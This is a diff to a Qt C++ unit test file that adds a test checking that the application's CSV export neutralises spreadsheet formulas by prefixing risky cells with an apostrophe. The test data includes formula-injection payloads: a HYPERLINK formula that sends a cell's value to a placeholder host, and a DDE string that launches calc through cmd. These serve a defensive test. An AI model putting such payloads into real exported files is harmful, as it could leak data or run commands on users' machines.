@@ -74,6 +74,8 @@ class TestFileOutput : public QObject
     void failedWritesAreReportedAndKeepTheOldFile_data();
     void failedWritesAreReportedAndKeepTheOldFile();
     void keptNameThatCannotBeSavedIsNotReportedAsSaved();
+    void csvCellsNeverStartAFormula_data();
+    void csvCellsNeverStartAFormula();
 };
 
 void TestFileOutput::failedWritesAreReportedAndKeepTheOldFile_data()
@@ -136,8 +138,8 @@ void TestFileOutput::failedWritesAreReportedAndKeepTheOldFile()
 void TestFileOutput::keptNameThatCannotBeSavedIsNotReportedAsSaved()
 {
     hmf::core::LoadError loadError;
-    const auto tables = hmf::core::loadTables(qEnvironmentVariable("HMF_DATA_DIR").toStdString(),
-                                              loadError);
+    const auto tables =
+        hmf::core::loadTables(qEnvironmentVariable("HMF_DATA_DIR").toStdString(), loadError);
     QVERIFY2(tables, loadError.message().c_str());
     QTemporaryDir dir;
     QFile blocker(dir.filePath(QStringLiteral("blocker")));
@@ -160,6 +162,34 @@ void TestFileOutput::keptNameThatCannotBeSavedIsNotReportedAsSaved()
              qPrintable(messages[0]));
     QVERIFY(!messages[0].contains(QStringLiteral("已将")));
     QCOMPARE(page.findChild<QTableWidget*>(QStringLiteral("表格_收藏"))->rowCount(), 1);
+}
+
+void TestFileOutput::csvCellsNeverStartAFormula_data()
+{
+    QTest::addColumn<QString>("cell");
+    QTest::addColumn<QByteArray>("written");
+    // Formulas as LibreOffice and Excel take them, and texts that only look alike.
+    QTest::newRow("=HYPERLINK") << QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1;\"看\")")
+                                << QByteArray("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;"
+                                              "\"\"看\"\")\"");
+    QTest::newRow("+cmd") << QStringLiteral("+1+cmd|' /C calc'!A0")
+                          << QByteArray("'+1+cmd|' /C calc'!A0");
+    QTest::newRow("-sum") << QStringLiteral("-2+3") << QByteArray("'-2+3");
+    QTest::newRow("@SUM") << QStringLiteral("@SUM(1;2)") << QByteArray("'@SUM(1;2)");
+    QTest::newRow("tab") << QStringLiteral("\t=1+1") << QByteArray("'\t=1+1");
+    QTest::newRow("CR") << QStringLiteral("\r=1+1") << QByteArray("\"'\r=1+1\"");
+    QTest::newRow("formula later in the text")
+        << QStringLiteral("好记 =1+1") << QByteArray("好记 =1+1");
+    QTest::newRow("empty") << QString() << QByteArray();
+}
+
+void TestFileOutput::csvCellsNeverStartAFormula()
+{
+    QFETCH(QString, cell);
+    QFETCH(QByteArray, written);
+    const QByteArray csv = csvDocument(
+        {{QStringLiteral("名字"), QStringLiteral("备注")}, {QStringLiteral("林子涵"), cell}});
+    QCOMPARE(csv, QByteArray("\xEF\xBB\xBF名字,备注\r\n林子涵,") + written + "\r\n");
 }
 
 QTEST_MAIN(TestFileOutput)
